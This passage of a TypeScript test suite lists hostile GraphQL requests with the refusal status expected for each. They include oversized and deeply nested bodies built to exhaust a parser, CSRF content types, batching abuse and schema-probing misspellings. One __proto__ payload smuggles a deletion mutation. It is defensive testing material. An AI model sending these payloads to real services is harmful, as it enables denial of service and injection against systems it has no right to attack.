      build: () => json({ extensions: { persistedQuery: "yes" } }),
    },
    {
      name: "apq round trip: register, then the hash alone (control)",
      family: "persisted queries",
      expect: { kind: "answer" },
      build: () => [
        json({ query: TYPENAME_QUERY, extensions: apq(TYPENAME_HASH) }),
        json({ extensions: apq(TYPENAME_HASH) }),
      ],
    },
  ];
}

// ---------------------------------------------------------------------------------------------------------------
// Oversized and malformed bodies, content types, batches, and operations the server cannot pick or run.

const PAD = "p".repeat(110 * 1024);

function raw(body: string, contentType?: string, extra: Record<string, string> = {}): RawRequest {
  return { method: "POST", headers: { ...(contentType ? { "content-type": contentType } : {}), ...extra }, body };
}

function bodyCases(): HostileCase[] {
  const refuse = (statuses?: number[], codes?: readonly string[]): Expectation => ({ kind: "refuse", statuses, codes });
  const c = (name: string, expect: Expectation, build: () => RawRequest): HostileCase => ({
    name: `body ${name}`,
    family: "bodies",
    expect,
    build,
  });
  const deepArray = "[".repeat(40_000) + "]".repeat(40_000);
  const deepObject = '{"a":'.repeat(15_000) + "1" + "}".repeat(15_000);
  return [
    c("over 100 KB in a variable", refuse([413]), () => gql("query($pad: String) { __typename }", { pad: PAD })),
    c("over 100 KB in the query (a comment)", refuse([413]), () => gql(`{ __typename } #${PAD}`)),
    c("over 100 KB of whitespace before the JSON", refuse([413]), () =>
      raw(`${" ".repeat(110 * 1024)}{"query":"{ __typename }"}`, "application/json"),
    ),
    c("over 100 KB, text/plain", refuse([413, 400, 415]), () => raw(PAD, "text/plain")),
    c("over 100 KB, no content type", refuse([413, 400, 415]), () => raw(PAD)),
    c("invalid JSON: lone brace", refuse([400]), () => raw("{", "application/json")),
    c("invalid JSON: cut after the key", refuse([400]), () => raw('{"query":', "application/json")),
    c("invalid JSON: single quotes", refuse([400]), () => raw("{'query':'{ __typename }'}", "application/json")),
    c("invalid JSON: trailing garbage", refuse([400]), () => raw('{"query":"{ __typename }"} xyz', "application/json")),
    c("JSON string", refuse([400]), () => raw('"{ __typename }"', "application/json")),
    c("JSON number", refuse([400]), () => raw("123", "application/json")),
    c("JSON null", refuse([400]), () => raw("null", "application/json")),
    c("JSON true", refuse([400]), () => raw("true", "application/json")),
    c("empty body", refuse([400]), () => raw("", "application/json")),
    c("query a number", refuse([400]), () => json({ query: 5 })),
    c("query null", refuse([400]), () => json({ query: null })),
    c("query an array", refuse([400]), () => json({ query: ["{ __typename }"] })),
    c("query an object", refuse([400]), () => json({ query: { kind: "Document", definitions: [] } })),
    c("no query at all", refuse([400]), () => json({ variables: {} })),
    c("variables a string", refuse([400]), () => json({ query: "{ __typename }", variables: "{}" })),
    c("variables an array", refuse([400]), () => json({ query: "{ __typename }", variables: [1, 2] })),
    c("operationName a number", refuse([400]), () => json({ query: "{ __typename }", operationName: 5 })),
    c("extensions a string", refuse([400]), () => json({ query: "{ __typename }", extensions: "x" })),
    c("__proto__ keys in body and variables", ANY, () =>
      raw(
        '{"query":"query($f: ProtectionPolicyFilter) { protectionPolicies(first: 1, filter: $f) { nodes { id } } }","variables":{"f":{"__proto__":{"workload":"EXCHANGE"}}},"__proto__":{"query":"mutation { deleteProtectionPolicy(id: \\"x\\") { id } }"}}',
        "application/json",
      ),
    ),
    c("deeply nested JSON array variable", refuse([400]), () =>
      raw(
        `{"query":"query($v: [ID!]) { protectionUnits(first: 1, filter: { policyId: $v }) { nodes { id } } }","variables":{"v":${deepArray}}}`,
        "application/json",
      ),
    ),
    c("deeply nested JSON object variable", refuse([400]), () =>
      raw(
        `{"query":"query($f: ProtectionPolicyFilter) { protectionPolicies(first: 1, filter: $f) { nodes { id } } }","variables":{"f":${deepObject}}}`,
        "application/json",
      ),
    ),
    c("deeply nested JSON in extensions", ANY, () =>
      raw(`{"query":"{ __typename }","extensions":{"x":${deepArray}}}`, "application/json"),
    ),
    c("deeply nested selections", refuse([400]), () =>
      gql(`{ ${"backupRestore { ".repeat(400)}id${" }".repeat(400)} }`),
    ),
    c("deeply nested list literal", refuse([400]), () =>
      gql(`{ protectionPolicy(id: ${"[".repeat(2000)}1${"]".repeat(2000)}) { id } }`),
    ),
    c("text/plain (CSRF)", refuse([400, 415]), () => raw('{"query":"{ __typename }"}', "text/plain")),
    c("form-urlencoded (CSRF)", refuse([400, 415]), () =>
      raw("query=%7B__typename%7D", "application/x-www-form-urlencoded"),
    ),
    c("multipart/form-data (CSRF)", refuse([400, 415]), () =>
      raw(
        '--b\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"{ __typename }"}\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
      ),
    ),
    c("application/graphql", refuse([400, 415]), () => raw("{ __typename }", "application/graphql")),
    c("application/xml", refuse([400, 415]), () => raw("<query>{ __typename }</query>", "application/xml")),
    c("no content type", refuse([400, 415]), () => raw('{"query":"{ __typename }"}')),
    c("JSON with charset utf-16", ANY, () => raw('{"query":"{ __typename }"}', "application/json; charset=utf-16")),
    c("gzip declared, plain body", ANY, () =>
      raw('{"query":"{ __typename }"}', "application/json", { "content-encoding": "gzip" }),
    ),
    c("batched operations: two", refuse([400]), () =>
      raw(JSON.stringify([{ query: "{ __typename }" }, { query: "{ __typename }" }]), "application/json"),
    ),
    c("batched operations: empty array", refuse([400]), () => raw("[]", "application/json")),
    c("batched operations: 200 Graph reads", refuse([400]), () =>
      raw(
        JSON.stringify(
          Array.from({ length: 200 }, () => ({ query: "{ backupRestore { serviceStatus { status } } }" })),
        ),
        "application/json",
      ),
    ),
    c("two anonymous operations", refuse([400], CLIENT), () =>
      gql("query { __typename } query { backupRestore { id } }"),
    ),
    c("two named operations, no operationName", refuse([400], CLIENT), () =>
      gql("query A { __typename } query B { backupRestore { id } }"),
    ),
    c("unknown operationName", refuse([400], CLIENT), () =>
      gql("query A { __typename }", undefined, { operationName: "B" }),
    ),
    c("operationName naming a fragment", refuse([400], CLIENT), () =>
      gql("query A { ...F } fragment F on Query { __typename }", undefined, { operationName: "F" }),
    ),
    c("subscription", refuse([400], CLIENT), () => gql("subscription S { __typename }")),
    c("anonymous subscription", refuse([400], CLIENT), () => gql("subscription { backupRestore { id } }")),
    c("only a fragment", refuse([400], CLIENT), () => gql("fragment F on Query { __typename }")),
    c("empty document", refuse([400], CLIENT), () => gql("")),
    c("NUL inside the query", refuse([400], CLIENT), () => gql("{ __typ\u0000ename }")),
    c("lone surrogate in a string argument", ANY, () => gql('{ restoreSession(id: "\ud800") { id } }')),
    // Schema probing without introspection: production answers carry no "Did you mean" (issue 12 item 7).
    c("enum value misspelt in a variable", refuse([400], CLIENT), () =>
      gql("query($f: ProtectionPolicyFilter) { protectionPolicies(first: 1, filter: $f) { nodes { id } } }", {
        f: { workload: "EXCHANG" },
      }),
    ),
    c("input field misspelt in a variable", refuse([400], CLIENT), () =>
      gql("query($f: ProtectionPolicyFilter) { protectionPolicies(first: 1, filter: $f) { nodes { id } } }", {
        f: { workloads: "EXCHANGE" },
      }),
    ),
    c("enum value misspelt in the document", refuse([400], CLIENT), () =>
      gql("{ protectionPolicies(first: 1, filter: { workload: EXCHANG }) { nodes { id } } }"),
    ),
    c("field misspelt", refuse([400], CLIENT), () => gql("{ protectionPolicie { id } }")),
    c("argument misspelt", refuse([400], CLIENT), () => gql("{ protectionPolicies(frist: 1) { nodes { id } } }")),
    c("type misspelt in a fragment", refuse([400], CLIENT), () => gql("{ ...F } fragment F on Quer { __typename }")),
    c("mutation field misspelt", refuse([400], CLIENT), () =>
      gql('mutation { deleteProtectionPolic(id: "11111111-1111-4111-8111-111111111111") { id } }'),
    ),
    c("PUT", refuse([400, 404, 405]), () => ({
      method: "PUT",
      headers: { "content-type": "application/json" },
      body: '{"query":"{ __typename }"}',
    })),
    c("DELETE", refuse([400, 404, 405]), () => ({
      method: "DELETE",
      headers: { "content-type": "application/json" },
      body: '{"query":"{ __typename }"}',
    })),
    c("PATCH", refuse([400, 404, 405]), () => ({
      method: "PATCH",
      headers: { "content-type": "application/json" },
      body: '{"query":"{ __typename }"}',
    })),
    c("GET with a 20 KB query string", refuse([400, 414, 431]), () => ({
      method: "GET",
      search: `?query=${encodeURIComponent(`{ __typename } #${"q".repeat(20_000)}`)}`,
      headers: { "apollo-require-preflight": "true" },
    })),
    c("GET mutation with a preflight header", refuse([400, 405]), () => ({
      method: "GET",
      search: `?query=${encodeURIComponent('mutation { deleteProtectionPolicy(id: "11111111-1111-4111-8111-111111111111") { id } }')}`,
      headers: { "apollo-require-preflight": "true" },
    })),
  ];
}

export const FAMILIES: { name: FamilyName; cases: HostileCase[] }[] = [
  { name: "forged cursors", cases: cursorCases() },
  { name: "traversal ids", cases: traversalCases() },
  { name: "injection strings", cases: injectionCases() },
  { name: "persisted queries", cases: persistedQueryCases() },
  { name: "bodies", cases: bodyCases() },
  // Last: on a gateway that still expands fragments exponentially, these stall it (and the suite restarts it).
  { name: "fragment bombs", cases: bombCases() },
];

export const ALL_CASES: HostileCase[] = FAMILIES.flatMap((f) => f.cases);
